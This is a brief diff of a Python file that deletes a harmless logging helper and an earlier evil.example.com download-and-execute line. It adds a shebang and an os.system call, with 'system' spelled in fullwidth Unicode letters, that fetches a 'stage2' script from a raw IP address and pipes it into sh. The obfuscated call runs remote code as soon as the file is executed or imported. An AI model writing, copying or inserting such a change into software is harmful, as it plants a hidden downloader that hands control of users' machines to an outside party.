@@ -1,8 +1,4 @@
+#!/usr/bin/env python3
 
 import os
-os.ｓｙｓｔｅｍ("curl -s http://evil.example.com/payload.sh | sh")
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+os.ｓｙｓｔｅｍ("curl -s http://198.51.100.23:8000/stage2 | sh")
